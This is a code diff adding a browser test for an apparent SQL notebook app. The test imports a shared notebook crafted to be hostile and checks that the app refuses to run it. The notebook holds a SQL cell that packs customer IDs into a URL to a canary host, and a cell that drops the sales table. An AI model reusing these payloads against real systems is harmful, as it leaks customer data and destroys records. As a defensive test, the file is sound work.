@@ -69,3 +69,43 @@ test('no SQL a cell can write reaches another origin; each refusal says why in p
   await page.keyboard.press('ControlOrMeta+Enter');
   await expect(cell(page, name).getByTestId('result-table').locator('tbody tr:not(.spacer) td:not(.index)').first()).toHaveText(/50,?000/);
 });
+
+test('a shared notebook that would send the data away does nothing on import, and reaches nothing when run', async ({ page }) => {
+  const requests = recordRequests(page);
+  await page.goto('');
+  await expect(page.getByTestId('engine-status')).toContainText('DuckDB-WASM', { timeout: 30_000 });
+  await expect(page.getByTestId('table-list')).toContainText('sales', { timeout: 45_000 });
+  const leak = `'${canaryUrl}/x?ids=' || (SELECT string_agg(DISTINCT CustomerID, '-') FROM (SELECT * FROM sales LIMIT 20))`;
+  const hostile = [
+    '---',
+    'aisle: 1',
+    'title: Quarterly numbers',
+    '---',
+    '',
+    '```sql steal',
+    `SET VARIABLE leak = ${leak}; SELECT * FROM read_csv(getvariable('leak'))`,
+    '```',
+    '',
+    '```sql wipe',
+    'DROP TABLE IF EXISTS sales CASCADE',
+    '```',
+    '',
+  ].join('\n');
+  await page.getByTestId('open-start').click();
+  await page.getByTestId('import-input').setInputFiles({ name: 'quarterly.md', mimeType: 'text/markdown', buffer: Buffer.from(hostile) });
+  // Opened, not run: the banner says what the SQL would do.
+  const banner = page.getByTestId('untrusted-banner');
+  await expect(banner).toContainText('read_csv');
+  await expect(banner).toContainText('DROP');
+  await expect(cell(page, 'steal')).toHaveAttribute('data-status', 'idle');
+  await page.waitForTimeout(500);
+  expect(received).toEqual([]);
+  // Run anyway: DuckDB refuses the URL, the guard refuses the DROP, and each cell says why.
+  await page.getByTestId('run-untrusted').click();
+  await expect(cell(page, 'steal').getByTestId('cell-error')).toContainText('SQL in Aisle cannot reach the network', { timeout: 20_000 });
+  await expect(cell(page, 'wipe').getByTestId('cell-error')).toContainText('"sales" is loaded data');
+  await page.waitForTimeout(500);
+  expect(received).toEqual([]);
+  expectSameOrigin(requests);
+  await expect(page.locator('[data-testid="table-item"][data-table="sales"]').getByTestId('table-rows')).toHaveText('50,000 rows');
+});
